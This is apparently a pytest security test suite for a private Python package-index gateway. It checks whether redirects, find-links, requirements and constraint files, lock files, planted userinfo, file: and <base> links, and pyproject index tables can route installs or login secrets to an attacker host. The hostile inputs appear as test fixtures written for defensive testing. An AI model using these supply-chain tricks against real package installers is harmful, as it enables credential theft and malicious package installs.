"""Links and redirects that lead away: past the gateway, to the public index, or to the attacker with a secret."""

from __future__ import annotations

import hashlib

import pytest

from altindex_magic import request
from altindex_magic.errors import AltIndexError
from altindex_magic.event import Notice
from tests.attacks.stage import EVIL, PRIVATE, SECRET
from tests.packages import wheel
from tests.users import perform

GOOD = "acme_models-1.0-py3-none-any.whl"
PAGE = f"/simple/{PRIVATE}/"


def _strictly(stage, *arguments):
    """Install as ``%altindex install`` does, where the links that lead past the gateway are refused."""
    target = stage.folder / "strict-target"
    stage.open(strict=True)
    try:
        perform(stage.service, request.Install(("--target", str(target), *arguments), tool="uv"))
    except AltIndexError as problem:
        return False, problem.reference
    return any(target.rglob("attacker.py")), ""


def _judge(stage, title, alone, ours):
    stage.record(title, {name: ran.owned for name, ran in alone.items()}, ours)


def test_find_links_in_the_environment(stage):
    """A folder that anybody may write into, with a higher version; under ``--strict`` the link is set aside."""
    wheel(stage.folder / "links", PRIVATE, "99.0", modules=EVIL)
    links = str(stage.folder / "links")
    alone = stage.alone(PRIVATE, PIP_FIND_LINKS=links, UV_FIND_LINKS=links)
    stage.environ |= {"PIP_FIND_LINKS": links, "UV_FIND_LINKS": links}
    stage.open(strict=True)
    _judge(stage, "find-links in the environment", alone, any(ran.owned for ran in stage.ours(PRIVATE).values()))


def test_an_index_inside_a_requirements_file(stage):
    """``--extra-index-url`` in a file that came with the project."""
    stage.evil(stage.attacker)
    requirements = stage.working / "requirements.txt"
    requirements.write_text(f"--extra-index-url {stage.attacker.url}\n{PRIVATE}\n")
    alone = stage.alone("-r", str(requirements))
    succeeded, reference = _strictly(stage, "-r", str(requirements))
    _judge(stage, "index option inside a requirements file", alone, succeeded)
    assert reference


def test_a_direct_link_inside_a_constraint_file(stage):
    """A constraint that says from where."""
    evil = stage.evil(stage.attacker)
    constraints = stage.working / "constraints.txt"
    constraints.write_text(f"{PRIVATE} @ {stage.attacker.origin}/files/{evil.name}\n")
    alone = stage.alone("-c", str(constraints), PRIVATE)
    succeeded, reference = _strictly(stage, "-c", str(constraints), PRIVATE)
    _judge(stage, "direct link inside a constraint file", alone, succeeded)
    assert reference


def test_a_lock_file_with_links(stage):
    """PEP 751: a locked link with the right hash of the wrong file."""
    evil = stage.evil(stage.attacker, "1.0")
    digest = hashlib.sha256(evil.read_bytes()).hexdigest()
    lock = stage.working / "pylock.toml"
    lock.write_text(
        f'lock-version = "1.0"\ncreated-by = "somebody"\n[[packages]]\nname = "{PRIVATE}"\nversion = "1.0"\n'
        f'[[packages.wheels]]\nurl = "{stage.attacker.origin}/files/{evil.name}"\nhashes = {{sha256 = "{digest}"}}\n'
    )
    alone = stage.alone("-r", str(lock))
    succeeded, reference = _strictly(stage, "-r", str(lock))
    _judge(stage, "links inside a lock file", alone, succeeded)
    assert reference


def test_a_redirect_to_the_public_index(stage):
    """As proxies do for what they do not have: the name stays the private index's."""
    stage.evil(stage.public)
    stage.open()
    stage.private.redirects(PAGE, f"{stage.public.url}{PRIVATE}/")
    stage.attack("page redirects to the public index", PRIVATE)


def test_a_redirect_to_the_attacker(stage):
    """Of the page of a private name to a host that is nobody's index."""
    stage.evil(stage.attacker)
    stage.open()
    stage.private.redirects(PAGE, f"{stage.attacker.url}{PRIVATE}/")
    stage.attack("page redirects to another host", PRIVATE)


def test_a_redirected_page_takes_no_secret_along(stage):
    """The attacker asks for a login, as the private index would."""
    stage.attacker.api.login = ("victim", SECRET)
    stage.open()
    stage.private.redirects(PAGE, f"{stage.attacker.url}{PRIVATE}/")
    stage.leaks("secret follows a page's redirect to another host", PRIVATE)


def test_a_redirected_file_takes_no_secret_along(stage):
    """Files may lie elsewhere; the secret stays."""
    stage.attacker.api.login = ("victim", SECRET)
    stage.private.redirects(f"/files/{GOOD}", f"{stage.attacker.origin}/files/{GOOD}")
    stage.leaks("secret follows a file's redirect to another host", PRIVATE)


def test_an_absolute_link_to_another_host_gets_no_secret(stage):
    """The page of the private index links to the attacker's host, under any path."""
    stage.attacker.api.login = ("victim", SECRET)
    stage.private.facts(GOOD, url=f"{stage.attacker.origin}/simple/files/{GOOD}")
    stage.leaks("absolute link to another host gets the secret", PRIVATE)


def test_userinfo_in_a_link_is_not_sent(stage):
    """A page that plants a login of its own: installers would send it, and show it in their logs."""
    url = stage.attacker.origin.replace("//", f"//planted:{SECRET.replace('/', '%2F')}@")
    stage.private.facts(GOOD, url=f"{url}/files/{GOOD}")
    stage.leaks("link with userinfo makes the client send it", PRIVATE)


def test_a_page_cannot_link_to_files_of_this_machine(stage):
    """``file:`` on a page that came over the network."""
    evil = wheel(stage.folder / "elsewhere", PRIVATE, "1.0", modules=EVIL)
    stage.private.facts(GOOD, url=evil.as_uri(), hashes={})
    stage.attack("page links to a file of this machine", PRIVATE, real=False)


def test_a_page_cannot_place_itself_on_this_machine(stage):
    """By ``<base>``, to which its links are relative: a file in the folder for downloads, say."""
    evil = wheel(stage.folder / "downloads", PRIVATE, "99.0", modules=EVIL)
    stage.open()
    head = f'<title>Links for {PRIVATE}</title><base href="{evil.parent.as_uri()}/">'
    stage.private.says(PAGE, f'<!DOCTYPE html><head>{head}</head><a href="{evil.name}">{evil.name}</a>')
    stage.attack("page says that it lies on this machine", PRIVATE, real=False)


@pytest.mark.parametrize("location", ["http://[", "http://host:99999/", "http://\u2100.example/"], ids=ascii)
def test_a_redirect_to_what_is_no_address(stage, location):
    """It breaks neither ``use`` nor an installation: it is told as what it is."""
    stage.open()
    stage.private.redirects("*", location)
    with pytest.raises(AltIndexError) as caught:
        perform(stage.service, request.Use(("private",)))
    ours = stage.ours(PRIVATE)
    told = {caught.value.reference, *(refusal.reference for refusal in stage.gateway.feed.refusals_since(0))}
    succeeds = told != {"redirect-refused"} or any(ran.owned for ran in ours.values())
    stage.record(f"redirect to {location!a}, which is no address", {}, succeeds)


def test_a_redirect_in_a_circle_ends(stage):
    """Soon, and with its cause."""
    stage.open()
    stage.private.redirects(PAGE, stage.private.url + PRIVATE + "/?again")
    ours = stage.ours(PRIVATE)
    rounds = len(stage.private.api.asked)
    stage.record("redirects in a circle", {}, rounds > 60 or any(ran.owned for ran in ours.values()))
    assert {refusal.reference for refusal in stage.gateway.feed.refusals_since(0)} == {"redirect-refused"}


def test_a_project_file_cannot_redefine_an_index(stage):
    """A ``pyproject.toml`` that gives the victim's index another address does not get the victim's secret."""
    stage.attacker.api.login = ("victim", SECRET)
    stage.open()
    for tool in ("uv", "altindex"):
        table = f'[[tool.{tool}.index]]\nname = "private"\nurl = "{stage.attacker.url}"\n'
        stage.working.joinpath("pyproject.toml").write_text(f'[project]\nname = "notebook"\nversion = "1"\n{table}')
        try:
            perform(stage.service, request.Use(("private",)))
            stage.ours(PRIVATE)
        except AltIndexError:
            pass  # it cannot be entered without the secret
    ours = stage.attacker.secrets_received(SECRET)
    stage.attacker.api.asked.clear()
    table = f'[[tool.uv.index]]\nname = "private"\nurl = "{stage.attacker.url}"\n'
    stage.working.joinpath("pyproject.toml").write_text(f'[project]\nname = "notebook"\nversion = "1"\n{table}')
    login = {"UV_INDEX_PRIVATE_USERNAME": "victim", "UV_INDEX_PRIVATE_PASSWORD": SECRET}
    del stage.environ["UV_NO_CONFIG"]
    stage.alone(PRIVATE, **login)
    stage.record("project file redefines an index", {"uv": stage.attacker.secrets_received(SECRET)}, ours)


@pytest.mark.parametrize("tool", ["uv", "altindex"])
def test_a_project_file_cannot_take_the_name_of_an_index(stage, tool):
    """``use private`` in a project of the attacker's means the victim's own index, or nothing."""
    stage.evil(stage.attacker)
    stage.open()
    stage.closing.close()
    table = f'[[tool.{tool}.index]]\nname = "private"\nurl = "{stage.attacker.url}"\n'
    stage.working.joinpath("pyproject.toml").write_text(f'[project]\nname = "notebook"\nversion = "1"\n{table}')
    service = stage.closing.enter_context(stage.user.session(stage.working))
    stage.attacker.api.asked.clear()
    try:
        perform(service, request.Use(("private",)))
        reference = ""
    except AltIndexError as problem:
        reference = problem.reference
    stage.record(f"project file takes the name of an index, by [tool.{tool}]", {}, bool(stage.attacker.api.asked))
    assert reference == "index-redefined"
    assert "127.0.0.1" not in service.session.world.environ.get("UV_INDEX", "")


def test_a_project_file_that_brings_a_default_index_is_told_of(stage):
    """Under the name of the public one, even: the address tells."""
    table = f'[[tool.uv.index]]\nname = "pypi"\nurl = "{stage.attacker.url}"\ndefault = true\n'
    project = stage.working / "pyproject.toml"
    project.write_text(f'[project]\nname = "notebook"\nversion = "1"\n{table}')
    stage.open()
    told = [each.text for each in perform(stage.service, request.Use(("private",))) if isinstance(each, Notice)]
    assert told == [
        f"Everything else comes from {stage.attacker.url}: [tool.uv] in {project} makes it the default index."
    ]


@pytest.mark.parametrize("lists", [True, False], ids=["listed", "probed"])
def test_a_project_file_cannot_claim_the_names_of_an_index(stage, monkeypatch, lists):
    """A table for uv becomes part of the set; neither its patterns nor its list take a name from the chosen one."""
    stage.evil(stage.attacker)
    table = f'[[tool.uv.index]]\nname = "evil"\nurl = "{stage.attacker.url}"\npackages = ["acme-*"]\n'
    stage.working.joinpath("pyproject.toml").write_text(f'[project]\nname = "notebook"\nversion = "1"\n{table}')
    monkeypatch.chdir(stage.working)
    del stage.environ["UV_NO_CONFIG"]
    if not lists:
        stage.private.says("/simple/", "", 404)
    stage.open()
    assert [index.name for index in stage.service.session.routes().active] == ["private", "evil"]
    alone, ours = stage.alone(PRIVATE), stage.ours(PRIVATE)
    title = f"project file claims the names of an index that is {'listed' if lists else 'probed'}"
    stage.record(title, {"uv": alone["uv"].owned}, any(ran.owned for ran in ours.values()))
    for ran in ours.values():
        assert ran.installed == {"acme_models-1.0"}, ran.output
